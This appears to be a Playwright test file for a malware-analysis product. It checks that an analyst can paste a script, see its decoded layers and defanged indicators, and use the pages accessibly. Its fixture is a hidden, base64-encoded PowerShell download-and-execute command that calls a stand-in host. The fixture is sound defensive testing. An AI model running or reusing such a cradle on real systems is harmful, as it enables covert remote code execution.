import type { Browser, Page } from 'playwright-core';
import { findChromium, launch, openPage, signIn, violations } from './support/browser.mjs';
import { startStandalone } from './support/standalone.mjs';

type Product = Awaited<ReturnType<typeof startStandalone>>;
type Opened = Awaited<ReturnType<typeof openPage>>;

const suite = findChromium() ? describe : describe.skip;
const inner = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/p.ps1')";
const script = `powershell -nop -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;

/** A malware analyst with a script in hand, in a real browser. */
suite('an analyst with a script', () => {
  let browser: Browser;
  let product: Product;

  beforeAll(async () => {
    product = await startStandalone();
    browser = await launch();
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await product?.stop();
  }, 60_000);

  async function open(options: object = {}): Promise<{ opened: Opened; page: Page }> {
    const opened = await openPage(browser, product.url, options);
    opened.page.setDefaultTimeout(20_000);
    await signIn(opened.page, product.url, product.user, product.password);
    await opened.page.getByRole('heading', { name: 'Incidents', exact: true }).waitFor();
    return { opened, page: opened.page };
  }

  test('pastes it, reads the last layer beside the one it came from, and follows a citation to its line', async () => {
    const { opened, page } = await open();
    await page.getByRole('link', { name: 'Scripts', exact: true }).click();
    await page.getByRole('textbox', { name: 'Script' }).fill(script);
    await page.getByRole('button', { name: 'Analyze', exact: true }).click();
    await page.getByRole('heading', { name: 'Malicious PowerShell script' }).waitFor();
    expect(page.url()).toMatch(/\/scripts\/[0-9a-f]{64}$/);
    expect(await page.getByRole('region', { name: 'Layer 1', exact: true }).textContent()).toContain(inner);
    expect(await page.getByRole('region', { name: /where layer 1 came from/ }).locator('mark').textContent()).toBe(script.split(' ').at(-1));
    await page.getByRole('button', { name: /show the record: layer 0/ }).first().click();
    await page.waitForURL(/layer=0&line=1/);
    expect(await page.getByRole('region', { name: 'Indicators' }).textContent()).toContain('hxxp://a[.]example[.]test/p.ps1');
    await page.getByRole('switch', { name: 'Code' }).click();
    expect(await page.getByRole('region', { name: 'Layers' }).count()).toBe(0);
    await page.reload();
    await page.getByRole('region', { name: 'Layers' }).waitFor();
    expect(opened.watched).toEqual({ foreign: [], violations: [], errors: [] });
    await opened.close();
  }, 90_000);

  test('finds the command lines of an incident analysed by themselves', async () => {
    const { opened, page } = await open();
    await page.locator('[data-incident]').first().waitFor();
    const ids = await page.locator('[data-incident]').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-incident')));
    let found = 0;
    for (const id of ids) {
      await page.goto(`${product.url}/incidents/${encodeURIComponent(String(id))}/scripts`);
      await page.getByRole('tab', { name: 'Scripts' }).waitFor();
      await page.waitForTimeout(600);
      found += await page.getByRole('tabpanel').getByRole('listitem').count();
    }
    expect(found).toBeGreaterThan(0);
    expect(opened.watched).toEqual({ foreign: [], violations: [], errors: [] });
    await opened.close();
  }, 90_000);

  test.each(['light', 'dark'] as const)('can be read by everybody in the %s theme', async (colorScheme) => {
    const { opened, page } = await open({ colorScheme });
    await page.goto(`${product.url}/scripts`);
    await page.getByRole('listitem').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await page.goto(`${product.url}/scripts?verdict=MALICIOUS`);
    await page.getByRole('link').filter({ hasText: 'powershell -nop -w hidden' }).first().click();
    await page.getByRole('region', { name: 'Facts' }).waitFor();
    expect(await violations(page)).toEqual([]);
    await opened.close();
  }, 90_000);
});
